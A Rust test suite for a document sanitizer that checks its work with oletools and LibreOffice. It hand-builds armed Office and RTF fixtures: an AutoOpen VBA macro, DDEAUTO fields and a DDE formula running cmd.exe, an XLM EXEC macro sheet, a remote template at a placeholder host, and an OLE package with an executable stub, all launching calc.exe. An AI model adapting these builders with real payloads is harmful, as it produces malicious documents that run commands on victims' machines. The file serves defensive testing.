//! Sanitization, judged by third-party tools: documents are made by
//! LibreOffice, given their active content by hand, sanitized, and then
//! checked by oletools (olevba, msodde) and opened again by LibreOffice,
//! whose PDF export must still hold the text. Every case has a clean twin.

use std::io::{Cursor, Read, Write};
use std::path::{Path, PathBuf};
use std::process::Command;

use mdcore::sanitize::{SanitizeError, SanitizeOptions, sanitize};

use crate::util::*;

const MACRO: &str =
    "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n    Shell \"calc.exe\"\r\nEnd Sub\r\n";
const TEXT: &str = "Quarterly figures, marker 4711: revenue rose by nine percent.";

/// Runs a verifier from `support/cdr-tools.sh` (oletools, pdfid, pikepdf,
/// installed into target/cdr-venv on first use); its stdout and exit code.
fn verifier(program: &str, args: &[&str]) -> (String, i32) {
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/support/cdr-tools.sh");
    let out = Command::new("bash")
        .arg(script)
        .arg(program)
        .args(args)
        .output()
        .expect("can not run tests/support/cdr-tools.sh");
    let text =
        String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr);
    (text, out.status.code().unwrap_or(-1))
}

/// LibreOffice, headless, with a profile of its own in `dir` (parallel
/// instances must not share one); `None` when it is not installed outside
/// CI.
fn soffice(dir: &Path, args: &[&str]) -> Option<()> {
    let profile = format!("-env:UserInstallation=file://{}/lo-profile", dir.display());
    let mut all = vec![profile.as_str(), "--headless", "--norestore"];
    all.extend_from_slice(args);
    tool(dir, "soffice", &all)
}

/// A document LibreOffice writes from plain text (`docx` from a `.txt`,
/// `xlsx` from a `.csv`).
fn libreoffice_document(dir: &Path, ext: &str, filter: &str) -> Option<Vec<u8>> {
    let source = if ext.starts_with("xl") {
        std::fs::write(dir.join("source.csv"), format!("\"{TEXT}\",7\n")).unwrap();
        "source.csv"
    } else {
        std::fs::write(dir.join("source.txt"), format!("{TEXT}\n")).unwrap();
        "source.txt"
    };
    let to = format!("{ext}:{filter}");
    soffice(dir, &["--convert-to", &to, source])?;
    Some(std::fs::read(dir.join(format!("source.{ext}"))).unwrap())
}

/// The text LibreOffice reads from a document, through a PDF export and
/// pdftotext.
fn text_of_document(dir: &Path, name: &str, data: &[u8]) -> String {
    let sub = dir.join(format!("open-{name}"));
    std::fs::create_dir_all(&sub).unwrap();
    std::fs::write(sub.join(name), data).unwrap();
    soffice(&sub, &["--convert-to", "pdf", name]).expect("LibreOffice is installed");
    let stem = Path::new(name).file_stem().unwrap().to_str().unwrap();
    let pdf = sub.join(format!("{stem}.pdf"));
    assert!(pdf.exists(), "LibreOffice did not open {name}");
    tool(&sub, "pdftotext", &[&format!("{stem}.pdf"), "out.txt"]).expect("pdftotext");
    std::fs::read_to_string(sub.join("out.txt")).unwrap()
}

fn parts(zip: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut z = zip::ZipArchive::new(Cursor::new(zip)).unwrap();
    (0..z.len())
        .map(|i| {
            let mut f = z.by_index(i).unwrap();
            let mut d = Vec::new();
            f.read_to_end(&mut d).unwrap();
            (f.name().unwrap().to_string(), d)
        })
        .collect()
}

fn zip_parts(parts: &[(String, Vec<u8>)]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (n, d) in parts {
        w.start_file(n.as_str(), zip::write::SimpleFileOptions::default())
            .unwrap();
        w.write_all(d).unwrap();
    }
    w.finish().unwrap().into_inner()
}

fn edit(parts: &mut Vec<(String, Vec<u8>)>, name: &str, f: impl FnOnce(String) -> String) {
    match parts.iter_mut().find(|(n, _)| n == name) {
        Some((_, d)) => *d = f(String::from_utf8(d.clone()).unwrap()).into_bytes(),
        None => parts.push((name.to_string(), f(String::new()).into_bytes())),
    }
}

/// A `vbaProject.bin` holding one module, its `PROJECT` stream included.
fn vba_bin(source: &str) -> Vec<u8> {
    let project = vba_project("VBA", &[("Module1", source)]);
    let mut streams: Vec<(&str, &[u8])> = project
        .iter()
        .map(|(n, d)| (n.as_str(), d.as_slice()))
        .collect();
    let text =
        b"ID=\"{00000000-0000-0000-0000-000000000000}\"\r\nModule=Module1\r\nName=\"Project\"\r\n";
    streams.push(("PROJECT", text));
    ole2_of(&streams)
}

const REL: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/// A LibreOffice docx given a VBA project (as a docm), a DDEAUTO field
/// split over two runs, and a remote template.
fn weaponize_docx(docx: &[u8]) -> Vec<u8> {
    let mut p = parts(docx);
    p.push(("word/vbaProject.bin".into(), vba_bin(MACRO)));
    edit(&mut p, "[Content_Types].xml", |s| {
        s.replace(
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        )
        .replace(
            "</Types>",
            "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>",
        )
    });
    edit(&mut p, "word/_rels/document.xml.rels", |s| {
        s.replace(
            "</Relationships>",
            "<Relationship Id=\"rIdVba\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/></Relationships>",
        )
    });
    edit(&mut p, "word/_rels/settings.xml.rels", |_| {
        format!(
            "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rIdT\" Type=\"{REL}/attachedTemplate\" Target=\"http://templates.example.net/t.dotm\" TargetMode=\"External\"/></Relationships>"
        )
    });
    edit(&mut p, "word/settings.xml", |s| {
        let at = s.find("<w:settings").unwrap();
        let end = at + s[at..].find('>').unwrap() + 1;
        format!(
            "{}<w:attachedTemplate xmlns:r=\"{REL}\" r:id=\"rIdT\"/>{}",
            &s[..end],
            &s[end..]
        )
    });
    edit(&mut p, "word/document.xml", |s| {
        let field = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\"> DDE</w:instrText></w:r><w:r><w:instrText xml:space=\"preserve\">AUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>field result</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
        let at = s.find("<w:body>").unwrap() + "<w:body>".len();
        format!("{}{field}{}", &s[..at], &s[at..])
    });
    zip_parts(&p)
}

fn tmp() -> tempfile::TempDir {
    tempfile::tempdir().unwrap()
}

fn write(dir: &Path, name: &str, data: &[u8]) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(&p, data).unwrap();
    p
}

#[test]
fn a_docm_with_an_autoopen_macro_a_dde_field_and_a_remote_template_comes_out_a_clean_docx() {
    let dir = tmp();
    let Some(docx) = libreoffice_document(dir.path(), "docx", "MS Word 2007 XML") else {
        return;
    };
    let docm = weaponize_docx(&docx);
    let bad = write(dir.path(), "bad.docm", &docm);

    // The verifiers see what was added: the fixture is what it claims.
    let (out, _) = verifier("olevba", &["-a", bad.to_str().unwrap()]);
    assert!(
        out.contains("AutoOpen"),
        "olevba does not see the macro:\n{out}"
    );
    let (out, _) = verifier("msodde", &[bad.to_str().unwrap()]);
    assert!(
        out.contains("DDEAUTO"),
        "msodde does not see the field:\n{out}"
    );

    let s = sanitize(&docm, "bad.docm", &SanitizeOptions::new()).unwrap();
    assert_eq!(s.converted_to, "docx");
    let kinds: Vec<(&str, u32)> = s
        .details
        .iter()
        .map(|d| (d.object_name.as_str(), d.count))
        .collect();
    for want in [("macro", 1), ("DDE", 2), ("template", 1)] {
        assert!(kinds.contains(&want), "{want:?} not in {kinds:?}");
    }
    let clean = write(dir.path(), "clean.docx", &s.data);
    let (out, _) = verifier("olevba", &["-a", clean.to_str().unwrap()]);
    assert!(
        out.contains("No VBA or XLM macros found") && !out.contains("AutoOpen"),
        "olevba on the copy:\n{out}"
    );
    let (out, code) = verifier("mraptor", &[clean.to_str().unwrap()]);
    assert_eq!(code, 0, "mraptor on the copy:\n{out}");
    let (out, _) = verifier("msodde", &[clean.to_str().unwrap()]);
    assert!(
        !out.to_ascii_uppercase().contains("DDEAUTO"),
        "msodde on the copy:\n{out}"
    );
    let names: Vec<String> = parts(&s.data).into_iter().map(|(n, _)| n).collect();
    assert!(!names.iter().any(|n| n.contains("vbaProject")), "{names:?}");
    let all: String = parts(&s.data)
        .into_iter()
        .map(|(_, d)| String::from_utf8_lossy(&d).into_owned())
        .collect();
    for gone in [
        "macroEnabled",
        "vbaProject",
        "templates.example.net",
        "attachedTemplate",
    ] {
        assert!(!all.contains(gone), "{gone} is still in the copy");
    }

    // LibreOffice opens the copy and the text is intact.
    let text = text_of_document(dir.path(), "clean.docx", &s.data);
    assert!(text.contains("marker 4711"), "{text}");
    assert!(text.contains("field result"), "{text}");

    // The clean twin: nothing to remove, the text the same.
    let s = sanitize(&docx, "plain.docx", &SanitizeOptions::new()).unwrap();
    assert_eq!(s.converted_to, "docx");
    assert!(s.details.is_empty(), "{:?}", s.details);
    let text = text_of_document(dir.path(), "plain.docx", &s.data);
    assert!(text.contains("marker 4711"), "{text}");
}

#[test]
fn an_xlsm_loses_its_macro_sheet_vba_and_dde_formula_and_keeps_its_values() {
    let dir = tmp();
    let Some(xlsx) = libreoffice_document(dir.path(), "xlsx", "Calc MS Excel 2007 XML") else {
        return;
    };
    let mut p = parts(&xlsx);
    p.push(("xl/vbaProject.bin".into(), vba_bin(MACRO)));
    p.push((
        "xl/macrosheets/sheet1.xml".into(),
        b"<?xml version=\"1.0\"?><xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\" xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\"><f>EXEC(\"calc.exe\")</f></c></row></sheetData></xm:macrosheet>".to_vec(),
    ));
    edit(&mut p, "[Content_Types].xml", |s| {
        s.replace(
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        )
        .replace(
            "</Types>",
            "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/><Override PartName=\"/xl/macrosheets/sheet1.xml\" ContentType=\"application/vnd.ms-excel.macrosheet+xml\"/></Types>",
        )
    });
    edit(&mut p, "xl/_rels/workbook.xml.rels", |s| {
        s.replace(
            "</Relationships>",
            "<Relationship Id=\"rIdVba\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/><Relationship Id=\"rIdM\" Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" Target=\"macrosheets/sheet1.xml\"/></Relationships>",
        )
    });
    edit(&mut p, "xl/workbook.xml", |s| {
        s.replace(
            "</sheets>",
            &format!("<sheet xmlns:r=\"{REL}\" name=\"Macro1\" sheetId=\"9\" state=\"hidden\" r:id=\"rIdM\"/></sheets>"),
        )
    });
    edit(&mut p, "xl/worksheets/sheet1.xml", |s| {
        s.replace(
            "</sheetData>",
            "<row r=\"5\"><c r=\"A5\"><f>cmd|' /c calc'!A0</f><v>42</v></c></row></sheetData>",
        )
    });
    let xlsm = zip_parts(&p);
    let bad = write(dir.path(), "bad.xlsm", &xlsm);
    let (out, _) = verifier("olevba", &["-a", bad.to_str().unwrap()]);
    assert!(
        out.contains("AutoOpen"),
        "olevba does not see the macro:\n{out}"
    );

    let s = sanitize(&xlsm, "bad.xlsm", &SanitizeOptions::new()).unwrap();
    assert_eq!(s.converted_to, "xlsx");
    let kinds: Vec<&str> = s.details.iter().map(|d| d.object_name.as_str()).collect();
    for want in ["macro", "macro sheet", "DDE"] {
        assert!(kinds.contains(&want), "{want} not in {kinds:?}");
    }
    let clean = write(dir.path(), "clean.xlsx", &s.data);
    let (out, _) = verifier("olevba", &["-a", clean.to_str().unwrap()]);
    assert!(
        out.contains("No VBA or XLM macros found"),
        "olevba on the copy:\n{out}"
    );
    let all: String = parts(&s.data)
        .into_iter()
        .map(|(_, d)| String::from_utf8_lossy(&d).into_owned())
        .collect();
    for gone in ["macroEnabled", "vbaProject", "macrosheet", "EXEC(", "cmd|"] {
        assert!(!all.contains(gone), "{gone} is still in the copy");
    }
    assert!(
        all.contains("<v>42</v>"),
        "the DDE cell lost its cached value"
    );
    let text = text_of_document(dir.path(), "clean.xlsx", &s.data);
    assert!(text.contains("marker 4711"), "{text}");
}

#[test]
fn what_can_not_be_rebuilt_is_an_error_never_the_original() {
    // Not a package at all.
    assert!(matches!(
        sanitize(b"plain text", "a.txt", &SanitizeOptions::new()),
        Err(SanitizeError::Unsupported(_))
    ));
    // Two parts of one name (case differs): which one Office reads is
    // not ours to guess.
    let dup = zip_of(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("word/document.xml", b"<w:document/>"),
        ("Word/Document.xml", b"<w:document/>"),
    ]);
    assert!(matches!(
        sanitize(&dup, "a.docx", &SanitizeOptions::new()),
        Err(SanitizeError::Failed(m)) if m.contains("two parts")
    ));
    // Broken XML in a part that must be rewritten.
    let mut p = parts(&docx_document());
    edit(&mut p, "word/document.xml", |_| {
        "<w:document><w:body>".into()
    });
    assert!(matches!(
        sanitize(&zip_parts(&p), "a.docx", &SanitizeOptions::new()),
        Err(SanitizeError::Failed(m)) if m.contains("well-formed")
    ));
    // A damaged document of a sanitized type fails; the same bytes under
    // another name are a type without a sanitizer.
    let mut cut = docx_document();
    cut.truncate(cut.len() - 40);
    assert!(matches!(
        sanitize(&cut, "a.docm", &SanitizeOptions::new()),
        Err(SanitizeError::Failed(m)) if m.contains("not a readable zip")
    ));
    assert!(matches!(
        sanitize(&cut, "a.bin", &SanitizeOptions::new()),
        Err(SanitizeError::Unsupported(_))
    ));
    // No main part of a known type.
    let odd = zip_of(&[("[Content_Types].xml", b"<Types/>"), ("x.xml", b"<x/>")]);
    assert!(sanitize(&odd, "a.docx", &SanitizeOptions::new()).is_err());
    // The minimal clean document goes through unchanged in content.
    let s = sanitize(&docx_document(), "a.docx", &SanitizeOptions::new()).unwrap();
    assert!(s.details.is_empty());
    let back: Vec<(String, Vec<u8>)> = parts(&s.data);
    assert_eq!(back, parts(&docx_document()));
}

/// An OLE 1.0 embedded object (as `\objdata` carries it): a Package
/// holding a small executable.
fn ole1_package_hex() -> String {
    let mut d = Vec::new();
    d.extend_from_slice(&0x0501u32.to_le_bytes()); // OLEVersion
    d.extend_from_slice(&2u32.to_le_bytes()); // FormatID: embedded
    d.extend_from_slice(&8u32.to_le_bytes());
    d.extend_from_slice(b"Package\0");
    d.extend_from_slice(&0u32.to_le_bytes()); // TopicName
    d.extend_from_slice(&0u32.to_le_bytes()); // ItemName
    let payload = b"MZ\x90\x00 this program cannot be run in DOS mode";
    d.extend_from_slice(&(payload.len() as u32).to_le_bytes());
    d.extend_from_slice(payload);
    d.iter().map(|b| format!("{b:02x}")).collect()
}

#[test]
fn an_rtf_with_an_ole_object_and_a_dde_field_keeps_its_text_and_loses_both() {
    let dir = tmp();
    std::fs::write(dir.path().join("source.txt"), format!("{TEXT}\n")).unwrap();
    if soffice(dir.path(), &["--convert-to", "rtf", "source.txt"]).is_none() {
        return;
    }
    let rtf = std::fs::read_to_string(dir.path().join("source.rtf")).unwrap();
    let end = rtf.rfind('}').unwrap();
    let bad = format!(
        "{}\\par {{\\object\\objemb{{\\*\\objclass Package}}\\objw100\\objh100{{\\*\\objdata {}}}{{\\result {{\\rtlch object picture}}}}}}\\par {{\\field{{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"}}{{\\fldrslt field result}}}}{}",
        &rtf[..end],
        ole1_package_hex(),
        &rtf[end..]
    );
    let bad_path = write(dir.path(), "bad.rtf", bad.as_bytes());
    let (out, _) = verifier("rtfobj", &[bad_path.to_str().unwrap()]);
    assert!(
        out.contains("Package"),
        "rtfobj does not see the object:\n{out}"
    );
    let (out, _) = verifier("msodde", &[bad_path.to_str().unwrap()]);
    assert!(
        out.contains("DDEAUTO"),
        "msodde does not see the field:\n{out}"
    );

    let s = sanitize(bad.as_bytes(), "bad.rtf", &SanitizeOptions::new()).unwrap();
    assert_eq!(s.converted_to, "rtf");
    let kinds: Vec<(&str, u32)> = s
        .details
        .iter()
        .map(|d| (d.object_name.as_str(), d.count))
        .collect();
    assert_eq!(kinds, vec![("OLE", 1), ("DDE", 1)]);
    let clean = write(dir.path(), "clean.rtf", &s.data);
    let (out, _) = verifier("rtfobj", &[clean.to_str().unwrap()]);
    assert!(!out.contains("Package"), "rtfobj on the copy:\n{out}");
    let (out, _) = verifier("msodde", &[clean.to_str().unwrap()]);
    assert!(
        !out.to_ascii_uppercase().contains("DDEAUTO"),
        "msodde on the copy:\n{out}"
    );
    let text = text_of_document(dir.path(), "clean.rtf", &s.data);
    assert!(text.contains("marker 4711"), "{text}");
    assert!(text.contains("field result"), "{text}");

    // The clean twin: nothing removed, the same bytes.
    let s = sanitize(rtf.as_bytes(), "plain.rtf", &SanitizeOptions::new()).unwrap();
    assert!(s.details.is_empty(), "{:?}", s.details);
    assert_eq!(s.data, rtf.trim_end().as_bytes());
}

#[test]
fn a_copy_sanitizes_again_with_nothing_left_to_remove() {
    // The fuzz target's invariant, on its seeds: what the sanitizer
    // writes, it reads.
    let docm = zip_of(&[
        (
            "[Content_Types].xml",
            br#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>"#,
        ),
        (
            "word/_rels/document.xml.rels",
            br#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://x/t.dotm" TargetMode="External"/></Relationships>"#,
        ),
        (
            "word/document.xml",
            br#"<w:document xmlns:w="w" xmlns:r="r"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO a b</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>text</w:t></w:r></w:p><w:control r:id="rId2"/></w:body></w:document>"#,
        ),
        ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"),
    ]);
    let rtf: &[u8] = br"{\rtf1 Hi {\object\objemb{\*\objdata 0105}{\result {\pict 00}}}{\field{\*\fldinst DDEAUTO x}{\fldrslt y}}}";
    for (data, name) in [(docm.as_slice(), "a.bin"), (rtf, "a.docm"), (rtf, "a.rtf")] {
        let first = sanitize(data, name, &SanitizeOptions::new()).unwrap();
        assert!(!first.details.is_empty(), "{name}");
        let second = sanitize(&first.data, name, &SanitizeOptions::new()).unwrap();
        assert!(second.details.is_empty(), "{name}: {:?}", second.details);
        assert_eq!(second.converted_to, first.converted_to);
    }
}
